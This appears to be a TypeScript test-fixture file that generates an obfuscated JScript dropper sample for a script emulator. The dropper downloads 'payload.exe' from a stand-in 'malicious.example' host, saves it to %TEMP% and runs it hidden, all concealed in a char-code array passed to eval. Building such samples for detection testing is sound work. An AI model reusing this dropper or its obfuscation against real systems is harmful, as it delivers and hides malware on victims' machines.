/**
 * Script samples for tests, built from their clear text at run time. Harmless by construction:
 * the "download" goes to a reserved `.example` name and is only ever requested from the
 * emulator's fake XMLHTTP object.
 */

/** An obfuscated JScript dropper: XMLHTTP GET, ADODB.Stream SaveToFile %TEMP%\payload.exe, WScript.Shell Run, hidden as a char-code array run by eval. */
export function obfuscatedDropper(url = 'http://malicious.example/payload.exe'): string {
  const body = [
    `var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "${url}", false); x.send();`,
    'if (x.status == 200) { var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.responseBody); s.Position = 0;',
    '  var sh = new ActiveXObject("WScript.Shell"); var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\payload.exe";',
    '  s.SaveToFile(p, 2); s.Close(); sh.Run(p, 0, false); }',
  ].join('\n');
  const codes = Array.from(body, (c) => c.charCodeAt(0)).join(',');
  return `var _0x1=[${codes}];var _0x2='';for(var i=0;i<_0x1.length;i++){_0x2+=String.fromCharCode(_0x1[i]);}this['ev'+'al'](_0x2);`;
}
